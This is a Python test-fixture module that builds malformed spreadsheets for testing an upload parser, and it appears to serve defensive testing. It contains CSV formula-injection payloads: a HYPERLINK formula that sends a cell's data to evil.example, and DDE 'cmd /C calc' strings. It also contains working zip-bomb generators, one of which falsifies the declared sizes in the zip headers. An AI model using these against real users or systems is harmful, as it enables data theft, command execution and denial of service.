"""Malformed spreadsheets, built on the fly: truncated, wrongly encoded, formulas, huge cells,
a million empty rows, zip bombs. Each returns the bytes a clerk (or an attacker) might upload."""

from __future__ import annotations

import io
import zipfile
import zlib

from tests.entities.test_resources import HEADINGS, csv_bytes, good_rows, xlsx_bytes

SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def good_csv(n: int = 50) -> bytes:
    return csv_bytes(good_rows(n), "utf-8")


def good_xlsx(n: int = 50) -> bytes:
    return xlsx_bytes(good_rows(n), HEADINGS)


def truncated(content: bytes, keep: float = 0.6) -> bytes:
    return content[: int(len(content) * keep)]


def csv_cut_in_a_character() -> bytes:
    content = good_csv(50)
    # End inside the 3-byte UTF-8 sequence of a Chinese character, past the encoding sample.
    i = content.rfind("公".encode())
    return content[: i + 1]


def csv_cut_in_a_quoted_field() -> bytes:
    return good_csv(20) + '"91370113000000999X,未结束的引号字段'.encode() + b"\n" * 3


def csv_encoded(encoding: str) -> bytes:
    return csv_bytes(good_rows(30), encoding)


def csv_latin1_garbage() -> bytes:
    return ("统一社会信用代码,名称\n".encode()) + bytes(range(0x80, 0x100)) * 400


def csv_with_formulas() -> bytes:
    rows = good_rows(10)
    rows[1][1] = "=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")"
    rows[2][5] = "+cmd|' /C calc'!A0"
    rows[3][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[4][8] = "-2+3+cmd|' /C calc'!A0"
    rows[5][0] = "=1+1"  # not a code: this row is reported, its value echoed in the error report
    return csv_bytes(rows, "utf-8")


def csv_huge_cell(size: int = 5 * 1024**2) -> bytes:
    rows = good_rows(5)
    rows[2][5] = "长" * (size // 3)
    return csv_bytes(rows, "utf-8")


def csv_million_empty_rows(n: int = 1_000_000) -> bytes:
    return good_csv(3) + b",,,,,,,,\r\n" * n


def csv_one_endless_line(size: int = 50 * 1024**2) -> bytes:
    """No newline at all after the header: one 50 MB field."""
    return good_csv(1) + b"x" * size


def _xlsx_with_sheet(sheet_xml_chunks, *, declared_small: bool = False) -> bytes:
    """A workbook from a real one, its first sheet replaced by streamed XML."""
    base = zipfile.ZipFile(io.BytesIO(good_xlsx(1)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in base.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                sheet = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
                sheet.compress_type = zipfile.ZIP_DEFLATED
                with z.open(sheet, "w", force_zip64=True) as fh:
                    for chunk in sheet_xml_chunks:
                        fh.write(chunk)
            else:
                z.writestr(info, base.read(info.filename))
    return out.getvalue()


def xlsx_million_empty_rows(n: int = 1_000_000) -> bytes:
    def chunks():  # type: ignore[no-untyped-def]
        yield SHEET_HEAD.encode()
        yield '<row r="1"><c r="A1" t="inlineStr"><is><t>统一社会信用代码</t></is></c><c r="B1" t="inlineStr"><is><t>名称</t></is></c></row>'.encode()
        batch = []
        for r in range(2, n + 2):
            batch.append(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t></t></is></c></row>')
            if len(batch) == 10_000:
                yield "".join(batch).encode()
                batch = []
        yield "".join(batch).encode()
        yield SHEET_TAIL.encode()
    return _xlsx_with_sheet(chunks())


def xlsx_far_dimension() -> bytes:
    """Two cells, one of them at the sheet's far corner (XFD1048576)."""
    def chunks():  # type: ignore[no-untyped-def]
        yield SHEET_HEAD.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>').encode()
        yield b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
        yield b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        yield SHEET_TAIL.encode()
    return _xlsx_with_sheet(chunks())


def xlsx_zip_bomb(mb: int = 1500) -> bytes:
    """A sheet of ``mb`` MB of real cells (numbers) that compresses about 1000:1."""
    def chunks():  # type: ignore[no-untyped-def]
        yield SHEET_HEAD.encode()
        row = b"<row>" + b"<c><v>1</v></c>" * 8 + b"</row>"
        block = row * (1024**2 // len(row))
        for _ in range(mb):
            yield block
        yield SHEET_TAIL.encode()
    return _xlsx_with_sheet(chunks())


def xlsx_lying_sizes(mb: int = 600) -> bytes:
    """A zip bomb whose headers claim a tiny uncompressed size (the check on declared sizes passes)."""
    content = bytearray(xlsx_zip_bomb(mb))
    # Patch the declared uncompressed size of sheet1.xml in the local and central headers.
    name = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
        real = info.file_size
    for sig, size_offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (i := content.find(sig, start)) >= 0:
            header_name_offset = 46 if sig == b"PK\x01\x02" else 30
            if content[i + header_name_offset: i + header_name_offset + len(name)] == name:
                if content[i + size_offset: i + size_offset + 4] == b"\xff\xff\xff\xff":
                    pass  # zip64: the real size lives in the extra field; leave it
                else:
                    content[i + size_offset: i + size_offset + 4] = (1024).to_bytes(4, "little")
            start = i + 4
    assert real > 1024
    return bytes(content)


def not_a_workbook_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("readme.txt", "hello")
    return out.getvalue()


def deflate_ratio(content: bytes) -> float:
    return len(zlib.compress(content)) / max(1, len(content))
